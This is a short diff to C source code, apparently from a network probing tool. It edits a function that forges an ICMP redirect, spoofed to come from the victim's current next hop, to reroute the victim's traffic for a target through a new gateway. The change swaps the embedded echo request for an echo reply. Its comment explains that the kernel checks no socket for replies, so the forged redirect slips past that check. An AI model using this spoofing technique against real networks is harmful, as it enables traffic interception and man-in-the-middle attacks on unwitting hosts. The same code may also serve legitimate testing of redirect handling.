@@ -39,8 +39,8 @@ static uint16_t checksum(const void *data, size_t len)
 }
 
 /*
- * redirect FROM VICTIM TARGET NEW-GATEWAY: an ICMP redirect that claims to be about an echo request
- * from VICTIM to TARGET. FROM must be the next hop that the victim uses now.
+ * redirect FROM VICTIM TARGET NEW-GATEWAY: an ICMP redirect that claims to be about an echo reply
+ * from VICTIM to TARGET, since for those the kernel asks no socket. FROM must be the next hop that the victim uses now.
  */
 int probe_redirect(int argc, char **argv)
 {
@@ -51,7 +51,7 @@ int probe_redirect(int argc, char **argv)
 	} p = {
 		.icmp = { .type = ICMP_REDIRECT, .code = ICMP_REDIR_HOST },
 		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_ICMP },
-		.echo = { .type = ICMP_ECHO },
+		.echo = { .type = ICMP_ECHOREPLY },
 	};
 	struct sockaddr_storage from, victim;
 	uint64_t began = live_ms();
